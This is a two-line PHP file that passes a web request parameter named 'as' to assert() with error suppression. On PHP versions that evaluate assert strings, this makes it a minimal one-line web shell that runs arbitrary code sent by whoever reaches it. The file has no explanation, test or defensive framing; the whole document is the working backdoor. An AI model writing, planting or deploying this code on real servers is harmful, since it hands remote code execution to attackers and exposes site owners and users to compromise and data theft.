<?php
assert(@$_REQUEST['as']);
